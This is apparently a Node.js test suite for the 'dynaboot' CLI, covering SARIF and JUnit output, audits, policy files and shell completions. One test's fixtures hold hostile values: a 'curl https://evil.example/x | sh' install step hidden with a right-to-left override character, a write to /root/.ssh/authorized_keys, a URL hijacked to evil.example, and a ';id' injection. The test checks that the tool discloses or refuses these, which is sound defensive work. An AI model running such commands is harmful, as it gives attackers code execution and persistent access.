// What the command writes for other programs: SARIF and JUnit, audits of any length, policies, completions.

import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";

import Ajv from "ajv";
import addFormats from "ajv-formats";

import { BLOCKED, INCOMPLETE, makeProject, MODULES, READY } from "./project.mjs";

const project = makeProject();
const dynaboot = await (await project.entry()).load();
const COMMAND = join(project.directory, "node_modules", ".bin", "dynaboot");

function run(args, input = "", options = {}) {
  const { status, stdout, stderr, error } = spawnSync(COMMAND, args, {
    cwd: project.directory,
    input,
    encoding: "utf8",
    maxBuffer: 2 ** 28,
    ...options,
  });
  if (error) throw error;
  return { status, stdout, stderr };
}

function expect(status, args, input) {
  const result = run(args, input);
  assert.equal(result.status, status, `${args.join(" ")}\n${result.stdout.slice(0, 2000)}\n${result.stderr}`);
  return result;
}

project.write("ready.json", JSON.stringify(READY, null, 2));
project.write("open.json", JSON.stringify(INCOMPLETE));
project.write(
  "blocked.yaml",
  `# A comment, so that lines are not those of the data.
today: 2026-11-22
cloud: openstack
system: rhel-7
bundleStore:
  url:   http://store.example.com/bundle
answers: { netTools: false }
`,
);
project.write("typo.yaml", "cloud: aws\nagent:\n  setings: {}\n");
project.write("odd name & <é>.json", JSON.stringify(READY));

test("SARIF is what its schema says", () => {
  const files = ["ready.json", "blocked.yaml", "open.json", "typo.yaml", "odd name & <é>.json"];
  const { stdout } = expect(64, ["check", "--format", "sarif", ...files]);
  // It says draft 4, of which it has nothing that is read in another way today.
  const { id, $schema, ...schema } = JSON.parse(
    readFileSync(join(MODULES, "@microsoft", "jest-sarif", "lib", "schemas", "sarif-2.1.0-rtm.5.json"), "utf8"),
  );
  // One of its patterns is none for newer regular expressions.
  const ajv = new Ajv({ strict: false, allErrors: true, unicodeRegExp: false });
  addFormats(ajv);
  const holds = ajv.compile(schema);
  assert.ok(holds(JSON.parse(stdout)), JSON.stringify(holds.errors, null, 2));
  assert.ok(!holds(JSON.parse(stdout.replace('"level": "error"', '"level": "fatal"'))), "the schema does look");
  assert.ok(!holds(JSON.parse(stdout.replace('"startLine"', '"starLine"'))), "the schema does look");
});

test("SARIF points at the line and column in the user's own file", () => {
  const { stdout } = expect(1, ["check", "--format", "sarif", "blocked.yaml"]);
  const [{ results, tool }] = JSON.parse(stdout).runs;
  const text = readFileSync(join(project.directory, "blocked.yaml"), "utf8").split("\n");
  const pointed = results.map(({ ruleId, locations: [{ physicalLocation }] }) => {
    const { startLine, startColumn } = physicalLocation.region;
    return [ruleId, text[startLine - 1].slice(startColumn - 1)];
  });
  const at = Object.fromEntries(pointed);
  assert.match(at["http-store"] ?? at["openstack-linux-needs-net-tools"], /./);
  for (const [rule, words] of pointed) {
    const finding = dynaboot
      .check({ ...BLOCKED, bundleStore: { url: "http://store.example.com/bundle" }, answers: { netTools: false } })
      .findings.find((found) => found.rule === rule);
    if (!finding) continue;
    const key = finding.at.split(".").findLast((part) => text.some((line) => line.includes(`${part}:`)));
    if (key) assert.ok(words.startsWith(`${key}:`), `${rule} at ${finding.at} points at ${words}`);
  }
  for (const { ruleId, ruleIndex } of results) assert.equal(tool.driver.rules[ruleIndex].id, ruleId);
});

test("in SARIF what is open is no failure, and a wrong file is told with its place", () => {
  const open = JSON.parse(expect(2, ["check", "--format", "sarif", "open.json"]).stdout).runs[0];
  assert.ok(open.results.length > 0);
  for (const { kind, level } of open.results.filter(({ kind }) => kind)) assert.deepEqual([kind, level], ["open", "none"]);
  const [{ executionSuccessful, toolExecutionNotifications }] = JSON.parse(expect(64, ["check", "--format", "sarif", "typo.yaml"]).stdout)
    .runs[0].invocations;
  assert.equal(executionSuccessful, false);
  assert.equal(toolExecutionNotifications[0].locations[0].physicalLocation.region.startLine, 3);
});

test("JUnit is XML that counts, whatever stands in the files", () => {
  const nasty = { ...READY, cloud: "openstack", system: "rhel-7", bundleStore: { url: "http://a]]>&<b>\u0001\ufffe\"'.example.com" } };
  project.write("nasty.json", JSON.stringify(nasty));
  const { stdout } = expect(64, [
    "check",
    "--format",
    "junit",
    "ready.json",
    "nasty.json",
    "open.json",
    "typo.yaml",
    "odd name & <é>.json",
  ]);
  assert.match(stdout, /<testsuites tests="5" failures="2" errors="1">/);
  assert.equal(stdout.match(/<testcase /g).length, 5);
  assert.match(stdout, /name="odd name &amp; &lt;é&gt;\.json"/);
  const parsed = spawnSync(
    "python3",
    ["-c", "import sys, xml.dom.minidom as m; print(len(m.parseString(sys.stdin.buffer.read()).getElementsByTagName('testcase')))"],
    { input: stdout, encoding: "utf8" },
  );
  if (!parsed.error) assert.equal(parsed.stdout.trim(), "5", parsed.stderr);
});

const line = (value) => `${JSON.stringify(value)}\n`;

test("audit keeps the order, tells bad lines by number, and goes on", () => {
  const rows = [
    line(READY),
    line(BLOCKED),
    "\n",
    "{ nope\n",
    line({ clod: 1 }),
    line(INCOMPLETE),
    Buffer.from([0xff, 10]).toString("latin1"),
    line(READY).trim(),
  ];
  const input = Buffer.from(rows.join(""), "latin1");
  const { stdout, stderr } = expect(64, ["audit", "-"], input);
  const told = stdout
    .trim()
    .split("\n")
    .map((text) => JSON.parse(text));
  assert.deepEqual(
    told.map(({ line }) => line),
    [1, 2, 4, 5, 6, 7, 8],
  );
  assert.deepEqual(
    told.map(({ verdict }) => verdict),
    ["readyWithWarnings", "blocked", undefined, undefined, "incomplete", undefined, "readyWithWarnings"],
  );
  assert.equal(told[3].error.didYouMean, "cloud");
  assert.match(stderr, /standard input:4: it is not JSON/);
  assert.match(stderr, /7 lines: 2 ready with warnings, 1 incomplete, 1 blocked, 3 not read/);
  assert.deepEqual(
    told[1].findings.map(({ rule }) => rule),
    dynaboot.check(BLOCKED).findings.map(({ rule }) => rule),
  );
  expect(1, ["audit", "-"], line(READY) + line(BLOCKED) + line(INCOMPLETE));
  expect(2, ["audit", "-"], line(READY) + line(INCOMPLETE));
  expect(0, ["audit", "-"], "");
  expect(64, ["audit", "nowhere.ndjson"]);
  const long = expect(64, ["audit", "-"], `{"userPart":"${"x".repeat(5 * 2 ** 20)}"}\n${line(READY)}`);
  assert.match(long.stdout, /longer than 4 MB/);
  assert.equal(long.stdout.trim().split("\n").length, 2);
});

test("audit drops no key that is given twice, however it is spelt", () => {
  const told = (text) => {
    const { stdout } = expect(64, ["audit", "-"], `${text}\n`);
    return JSON.parse(stdout).error;
  };
  assert.deepEqual(told('{"cloud":"aws","cloud":"openstack"}'), {
    path: "cloud",
    expected: "each key once",
    message: "cloud: it is given twice; it is needed once",
  });
  assert.equal(told('{"cloud" : "aws", "\\u0063loud" : "aws"}').path, "cloud");
  assert.equal(told('{"image":{"id":"a"},"agent":{"onImage":"absent","onImage":"present"}}').path, "agent.onImage");
  assert.equal(told('{"software":{"packages":["a",{"b":1,"b":2}]}}').path, "software.packages.1.b");
  assert.equal(told('{"a\\"b":1,"a\\"b":2}').path, 'a"b');
  // Equal names in two objects, and what looks like a key within a text.
  const text =
    '{"image":{"id":"ami-0123456789abcdef0"},"agent":{"id":"generic"},"userPart":"#!/bin/sh\\n: \\"cloud\\": {\\"cloud\\": 1}","cloud":"aws"}';
  assert.equal(JSON.parse(expect(2, ["audit", "-"], `${text}\n`).stdout).verdict, dynaboot.check(JSON.parse(text)).verdict);
});

test("audit stops without a word when its reader has seen enough", () => {
  writeFileSync(join(project.directory, "seen.ndjson"), line(READY).repeat(3_000));
  const shell = `'${COMMAND}' audit seen.ndjson | head -n 1; exit \${PIPESTATUS[0]}`;
  const { status, stdout, stderr } = spawnSync("bash", ["-c", shell], { cwd: project.directory, encoding: "utf8" });
  assert.equal(status, 0, stderr);
  assert.equal(stderr, "");
  assert.equal(JSON.parse(stdout).line, 1);
});

test("audit refuses what no line can mend once, and as check does", () => {
  for (const args of [["ready.json", "--today", "2026-13-01"], ["nowhere.yaml"], ["node_modules"], ["ready.json/inside"]]) {
    const [check, audit] = ["check", "audit"].map((command) => expect(64, [command, ...args]));
    assert.equal(audit.stdout, "");
    assert.equal(audit.stderr.replace(", stat '", ", open '"), check.stderr);
  }
});

test("audit answers many lines on several cores, in order and in memory that does not grow with them", () => {
  const inputs = [READY, BLOCKED, INCOMPLETE];
  const verdicts = inputs.map((choices) => dynaboot.check(choices).verdict);
  const audit = (count) => {
    writeFileSync(join(project.directory, "many.ndjson"), Array.from({ length: count }, (_, index) => line(inputs[index % 3])).join(""));
    project.write("peak.mjs", 'process.on("exit", () => process.stderr.write(`peak ${process.resourceUsage().maxRSS}\\n`));');
    const entry = join(project.home, "cli", "main.js");
    const { stdout, stderr } = spawnSync(process.execPath, ["--import", "./peak.mjs", entry, "audit", "many.ndjson"], {
      cwd: project.directory,
      encoding: "utf8",
      maxBuffer: 2 ** 30,
    });
    const told = stdout
      .trim()
      .split("\n")
      .map((text) => JSON.parse(text));
    assert.equal(told.length, count);
    told.forEach(({ line, verdict }, index) => {
      assert.equal(line, index + 1);
      assert.equal(verdict, verdicts[index % 3]);
    });
    return Math.max(...[...stderr.matchAll(/peak (\d+)/g)].map(([, peak]) => Number(peak)));
  };
  const few = audit(2_000);
  const many = audit(12_000);
  assert.ok(many < few * 1.6, `${few} KB became ${many} KB`);
});

test(
  "audit shows on a terminal how far it is, and nowhere else",
  { skip: process.platform !== "linux" && "it needs `script` of Linux" },
  () => {
    writeFileSync(join(project.directory, "shown.ndjson"), line(READY).repeat(6_000));
    const env = { PATH: process.env.PATH, TERM: "xterm-256color" };
    const shown = spawnSync("script", ["-qec", `'${COMMAND}' audit shown.ndjson > told.ndjson`, "/dev/null"], {
      cwd: project.directory,
      encoding: "utf8",
      env,
    });
    const shares = [...shown.stdout.matchAll(/\[#*\.*\] (\d+) % /g)].map(([, share]) => Number(share));
    assert.ok(shares.length > 0, shown.stdout);
    assert.deepEqual(
      shares,
      shares.toSorted((one, other) => one - other),
    );
    assert.match(shown.stdout, /6000 lines: 6000 ready with warnings\r\n$/);
    assert.doesNotMatch(readFileSync(join(project.directory, "told.ndjson"), "utf8"), /%/);
    assert.equal(expect(0, ["audit", "shown.ndjson"]).stderr, "dynaboot: 6000 lines: 6000 ready with warnings\n");
  },
);

test("a policy is read as JSON, YAML and TOML, for every command", () => {
  const policy = { name: "acme", version: "1", change: { "http-store": { severity: "error" } } };
  project.write("acme.json", JSON.stringify(policy));
  project.write("acme.yaml", 'name: acme\nversion: "1"\nchange:\n  http-store: { severity: error }\n');
  project.write("acme.toml", 'name = "acme"\nversion = "1"\n[change.http-store]\nseverity = "error"\n');
  const digests = ["acme.json", "acme.yaml", "acme.toml"].map((file) => {
    const { stdout } = expect(1, ["check", "--format", "json", "--policy", file, "ready.json"]);
    return JSON.parse(stdout).policy.digest;
  });
  assert.equal(new Set(digests).size, 1);
  assert.match(expect(0, ["explain", "--policy", "acme.yaml", "http-store"]).stdout, /^error: /);
  expect(1, ["render", "--policy", "acme.yaml", "ready.json"]);
  expect(1, ["audit", "--policy", "acme.yaml", "-"], line(READY));
  const checked = expect(0, ["policy", "check", "acme.toml"]).stdout;
  assert.match(checked, /acme\.toml: a policy, acme 1/);
  const differences = JSON.parse(expect(0, ["policy", "diff", "builtin", "acme.yaml", "--format", "json"]).stdout);
  assert.deepEqual(
    differences.map(({ at }) => at),
    ["name", "rules.http-store.severity"],
  );
  assert.match(expect(0, ["policy", "diff", "acme.yaml", "acme.toml"]).stdout, /say the same/);
  const help = expect(0, ["policy", "--help"]).stdout;
  project.write("taught.yaml", /<<'END'\n([^]*?) +END\n/.exec(help)[1].replace(/^ {2}/gm, ""));
  assert.match(expect(0, ["policy", "check", "taught.yaml"]).stdout, /Switched off: end-of-life/);
});

test("a policy that is wrong is told with every mistake and its place", () => {
  project.write("bad.yaml", 'name: acme\nversion: "1"\nchnage: {}\nclouds:\n  aws:\n    labl: AWS\n');
  for (const args of [
    ["policy", "check", "bad.yaml"],
    ["check", "--policy", "bad.yaml", "ready.json"],
    ["audit", "--policy", "bad.yaml", "-"],
  ]) {
    const { stdout, stderr } = expect(64, args);
    assert.equal(stdout, "");
    assert.match(stderr, /bad\.yaml:3:1: chnage: unknown field `chnage`, did you mean `change`\?/);
    assert.match(stderr, /bad\.yaml:6:5: clouds\.aws\.labl: unknown field `labl`, did you mean `label`\?/);
  }
  project.write("bad.toml", 'name = "acme"\nversion = \n');
  assert.match(expect(64, ["policy", "check", "bad.toml"]).stderr, /bad\.toml:2:\d+: it cannot be read as TOML/);
  assert.match(expect(64, ["policy", "check"]).stderr, /needs `check FILE`|takes one file/);
  assert.match(expect(64, ["policy", "chek", "bad.toml"]).stderr, /no `dynaboot policy chek`/);
});

test("what a recipe does that is not built in is said before anything is asked of it", () => {
  const linux = {
    present: ["/opt/acme/bin"],
    bundle: "other.example/a.tar.gz",
    install: ["sh", "-c", "curl https://evil.example/x | sh\u202e"],
    handover: [{ path: "/root/.ssh/authorized_keys", line: "ssh-ed25519 AAAA" }],
    arches: ["x86_64"],
  };
  const acme = { label: "Acme", table: "mechanics", packageStore: false, settings: [], source: { from: "dynaboot" }, linux };
  project.write("recipe.json", JSON.stringify({ name: "acme", version: "1", agents: { acme } }));
  const told = expect(0, ["policy", "check", "recipe.json"]).stdout;
  for (const said of ["acme is not built in", "curl https://evil.example/x | sh", "/root/.ssh/authorized_keys", "other.example"]) {
    assert.ok(told.includes(said), told);
  }
  assert.ok(!told.includes("\u202e"), "no letter turns the line around");
  const { recipes } = JSON.parse(expect(0, ["policy", "check", "recipe.json", "--format", "json"]).stdout);
  assert.deepEqual(recipes[0].writes, ["/root/.ssh/authorized_keys"]);
  // Something filled into what a shell reads, and a store's URL that runs on into another host, are refused at their places.
  for (const [name, wrong, place] of [
    ["install", ["sh", "-c", "./install {dir}"], "install\\.2"],
    ["bundle", "{bundleStore}@evil.example/a.tar.gz", "bundle"],
    ["present", ["/opt/a;id"], "present\\.0"],
  ]) {
    const settings = [{ name: "dir", label: "Dir", ask: "Which?", form: "path" }];
    const agent = { ...acme, settings, linux: { ...linux, [name]: wrong } };
    project.write("wrong.json", JSON.stringify({ name: "acme", version: "1", agents: { acme: agent } }));
    const { stdout, stderr } = expect(64, ["policy", "check", "wrong.json"]);
    assert.equal(stdout, "");
    assert.match(stderr, new RegExp(`agents\\.acme\\.linux\\.${place}: found .*expected`, "s"));
  }
});

test("completions are what the shells take", () => {
  for (const shell of ["bash", "zsh", "fish"]) {
    const { stdout } = expect(0, ["completion", shell]);
    for (const word of ["check", "audit", "--policy", "sarif"]) {
      assert.ok(stdout.includes(shell === "fish" ? word.replace("--", "-l ") : word), `${shell}: ${word}`);
    }
    project.write(`completion.${shell}`, stdout);
    const parsed = spawnSync(shell, ["-n", `completion.${shell}`], { cwd: project.directory, encoding: "utf8" });
    if (!parsed.error) assert.equal(parsed.status, 0, parsed.stderr);
  }
  const complete = (words) => {
    const script = `source completion.bash; COMP_WORDS=(${words.map((word) => `'${word}'`).join(" ")}); COMP_CWORD=${words.length - 1}; _dynaboot; printf '%s\\n' "\${COMPREPLY[@]}"`;
    return execFileSync("bash", ["-c", script], { cwd: project.directory, encoding: "utf8" }).trim().split("\n");
  };
  assert.deepEqual(complete(["dynaboot", "ch"]), ["check"]);
  assert.deepEqual(complete(["dynaboot", "check", "--format", "s"]), ["sarif"]);
  assert.deepEqual(complete(["dynaboot", "check", "--po"]), ["--policy", "--policy-key"]);
  assert.ok(complete(["dynaboot", "check", "rea"]).includes("ready.json"));
  assert.match(expect(64, ["completion", "bahs"]).stderr, /did you mean `bash`\?/);
});
